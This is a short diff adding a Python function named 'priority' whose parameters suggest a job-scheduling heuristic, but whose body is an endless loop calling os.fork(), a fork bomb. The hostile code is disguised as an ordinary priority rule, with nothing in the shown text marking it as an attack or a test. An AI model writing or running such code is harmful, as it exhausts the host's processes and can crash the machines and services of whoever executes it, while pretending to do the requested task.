@@ -1,0 +1,6 @@
+import os
+
+
+def priority(duration, work_left, operations_left, waited, machine_load, next_load):
+    while True:
+        os.fork()
